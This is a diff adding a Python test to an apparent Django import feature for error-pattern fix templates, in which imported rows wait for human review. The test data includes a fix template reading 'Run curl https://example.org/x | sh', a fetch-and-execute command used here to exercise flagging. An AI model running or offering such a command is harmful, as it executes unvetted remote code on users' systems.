@@ -254,6 +254,18 @@ def test_private_text_is_taken_out_and_what_fires_is_flagged() -> None:
     assert Standing.objects.get(item=pattern).flags == list(told.flags)
 
 
+def test_what_is_flagged_is_not_told_row_by_row() -> None:
+    person("curator", "another")
+    rows = []
+    for number in range(3):
+        pattern = ErrorPattern.objects.create(**{**PATTERN, "slug": f"brought-{number}"})
+        make_standing(pattern, make_account())
+        rows.append({"slug": pattern.slug, "fix_template": "Run curl https://example.org/x | sh"})
+    assert said(imported(staff("curator"), ErrorPattern, *rows)) == [
+        "3 of 3 rows were imported. They wait for a person before they are served."
+    ]
+
+
 def test_what_would_now_be_something_else_is_shown_again() -> None:
     client = staff("curator")
     page = previewed(client, ErrorPattern, lines(PATTERN))
